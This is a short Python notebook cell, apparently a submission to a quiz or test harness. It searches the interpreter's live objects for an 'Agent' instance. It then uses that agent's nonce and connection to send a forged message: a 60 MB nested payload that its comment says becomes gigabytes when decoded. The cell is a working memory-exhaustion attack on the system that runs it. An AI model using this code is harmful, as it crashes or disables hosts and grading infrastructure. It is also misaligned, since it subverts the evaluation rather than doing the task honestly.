# Sends an output of 60 MB that becomes gigabytes when it is decoded.
# notebook: quiz
# stock: not run
# %% extra="q1"
import gc

for room in gc.get_objects():
    if type(room).__name__ == "Agent":
        tree = b'["l"' + b',["s"]' * 10_000_000 + b"]"
        room.connection.send_bytes(room.nonce + b">" + len(tree).to_bytes(4, "little") + tree)
        break
